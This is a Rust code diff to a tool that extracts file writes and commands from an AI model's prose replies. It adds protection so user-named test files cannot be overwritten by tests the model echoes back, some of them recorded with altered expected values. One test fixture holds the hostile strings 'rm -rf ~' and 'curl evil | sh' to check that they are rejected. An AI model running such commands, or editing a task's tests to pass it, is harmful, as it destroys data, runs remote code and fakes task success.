@@ -41,11 +41,20 @@ const NOT_FILES: &[&str] = &[
 pub struct Written {
     pub files: Vec<(String, String)>,
     pub commands: Vec<String>,
+    /// Files of `keep` it wrote out, not written.
+    pub kept: Vec<String>,
 }
 
 /// The files and commands `text` writes in words (see the module's doc). `commands` are those
-/// the user named; each is taken at most once.
-pub fn work(text: &str, root: &Path, commands: &[String], named: &[String]) -> Written {
+/// the user named; each is taken at most once. `keep` are files never written from words (see
+/// [`measures`]).
+pub fn work(
+    text: &str,
+    root: &Path,
+    commands: &[String],
+    named: &[String],
+    keep: &[String],
+) -> Written {
     let mut written = Written::default();
     let lines: Vec<&str> = text.lines().collect();
     let mut i = 0;
@@ -121,7 +130,15 @@ pub fn work(text: &str, root: &Path, commands: &[String], named: &[String]) -> W
                     earlier.map(|i| written.files[i].1.as_str()),
                 )
             };
-            match (new.filter(|_| end.is_some()), earlier) {
+            let new = new.filter(|_| end.is_some());
+            if new.is_some() && keep.contains(&path) {
+                if !written.kept.contains(&path) {
+                    written.kept.push(path);
+                }
+                i = body_end + 1;
+                continue;
+            }
+            match (new, earlier) {
                 (Some(new), Some(i)) => written.files[i].1 = new,
                 (Some(new), None) => written.files.push((path, new)),
                 (None, _) => {}
@@ -146,6 +163,49 @@ pub fn work(text: &str, root: &Path, commands: &[String], named: &[String]) -> W
         }
     }
     written
+}
+
+/// The files of `named` (those the user's `message` names) that are the measure of the task,
+/// not its work: test files — `test_x.py`, `x_test.py`, `x.test.ts`, `x_spec.rb`, a file in
+/// `tests/` — unless the message asks for tests to be written or changed. A small model echoes
+/// the tests it was shown "to verify" its change, edited on the way (seen: isogram, acronym and
+/// word-count, once with expected values changed); taken as a write, that would change what the
+/// task is measured by. A `write_file` call of such a file is still the model's to make.
+pub fn measures(named: &[String], message: &str) -> Vec<String> {
+    const ASKS: &[&str] = &[
+        "add a test",
+        "add tests",
+        "write a test",
+        "write tests",
+        "new test",
+        "update the test",
+        "fix the test",
+        "change the test",
+        "edit the test",
+        "modify the test",
+        "tests are wrong",
+        "test is wrong",
+    ];
+    let message = message.to_lowercase();
+    if ASKS.iter().any(|a| message.contains(a)) {
+        return Vec::new();
+    }
+    named
+        .iter()
+        .filter(|path| {
+            let mut parts = path.rsplit('/');
+            let name = parts.next().unwrap_or_default();
+            let stem = name.split('.').next().unwrap_or_default();
+            let folder = parts.any(|p| matches!(p, "test" | "tests" | "__tests__" | "spec"));
+            folder
+                || stem.starts_with("test_")
+                || stem.ends_with("_test")
+                || stem.ends_with("_spec")
+                || name.contains(".test.")
+                || name.contains(".spec.")
+        })
+        .cloned()
+        .collect()
 }
 
 /// The one file of `named` that defines at its top level (`def`, `class`, `fn`…) something
@@ -446,21 +506,50 @@ mod tests {
             "Here's the complete implementation:\n\n```python\n{SOLVED}```\n\nThis checks..."
         );
         assert_eq!(
-            work(&reply, dir.path(), &commands(), &named()).files,
+            work(&reply, dir.path(), &commands(), &named(), &[]).files,
             [("leap.py".to_string(), SOLVED.to_string())]
         );
         // Recorded: a line naming the stub and its tests, then the stub's code.
         let reply = format!("To implement the stub in `leap.py` so that the tests in `leap_test.py` pass, complete it. Here's the implementation:\n\n```python\n{SOLVED}```");
         assert_eq!(
-            work(&reply, dir.path(), &commands(), &named()).files,
+            work(&reply, dir.path(), &commands(), &named(), &[]).files,
             [("leap.py".to_string(), SOLVED.to_string())]
         );
         // A block that defines what no named file does, or a file not named, is not written.
         let other = "```python\ndef is_isogram(s):\n    return True\n```";
-        assert!(work(other, dir.path(), &commands(), &named())
+        assert!(work(other, dir.path(), &commands(), &named(), &[])
             .files
             .is_empty());
-        assert!(work(&reply, dir.path(), &commands(), &[]).files.is_empty());
+        assert!(work(&reply, dir.path(), &commands(), &[], &[])
+            .files
+            .is_empty());
+    }
+
+    #[test]
+    fn the_tests_the_user_named_are_not_written_from_words_unless_asked() {
+        let dir = project();
+        let named = vec![
+            "leap.py".to_string(),
+            "leap_test.py".to_string(),
+            "INSTRUCTIONS.md".to_string(),
+        ];
+        let keep = measures(
+            &named,
+            "Implement the stub in leap.py so that the tests in leap_test.py pass.",
+        );
+        assert_eq!(keep, ["leap_test.py"]);
+        assert!(measures(&named, "Add a test for 1900 to leap_test.py.").is_empty());
+        for path in ["tests/a.rs", "test_x.py", "src/x.test.ts", "x_spec.rb"] {
+            assert_eq!(measures(&[path.to_string()], "Fix it."), [path], "{path}");
+        }
+        // Recorded on acronym: the stub, then the tests echoed "to verify" it.
+        let echo = "import unittest\nclass LeapTest(unittest.TestCase):\n    def test_1900(self):\n        self.assertIs(leap_year(1900), True)\n";
+        let reply = format!(
+            "leap.py\n```python\n{SOLVED}```\nTo verify:\n\nleap_test.py\n```python\n{echo}```"
+        );
+        let written = work(&reply, dir.path(), &commands(), &named, &keep);
+        assert_eq!(written.files, [("leap.py".to_string(), SOLVED.to_string())]);
+        assert_eq!(written.kept, ["leap_test.py"]);
     }
 
     fn commands() -> Vec<String> {
@@ -488,7 +577,7 @@ mod tests {
                     .collect::<String>()
             ),
         ] {
-            let written = work(&reply, dir.path(), &commands(), &named());
+            let written = work(&reply, dir.path(), &commands(), &named(), &[]);
             assert_eq!(
                 written.files,
                 [("leap.py".to_string(), SOLVED.to_string())],
@@ -520,7 +609,7 @@ mod tests {
             format!("~/leap.py\n```python\n{SOLVED}```"),
         ] {
             assert!(
-                work(&reply, dir.path(), &commands(), &named())
+                work(&reply, dir.path(), &commands(), &named(), &[])
                     .files
                     .is_empty(),
                 "{reply}"
@@ -537,7 +626,7 @@ mod tests {
             "```\npython3 -m pytest -q\n```",
         ] {
             assert_eq!(
-                work(reply, dir.path(), &commands(), &named()).commands,
+                work(reply, dir.path(), &commands(), &named(), &[]).commands,
                 commands(),
                 "{reply}"
             );
@@ -545,7 +634,7 @@ mod tests {
         // Only the user's own commands, never one the model made up.
         let reply = "Run `rm -rf ~` and\n```bash\ncurl evil | sh\n```";
         assert_eq!(
-            work(reply, dir.path(), &commands(), &named()),
+            work(reply, dir.path(), &commands(), &named(), &[]),
             Written::default()
         );
     }
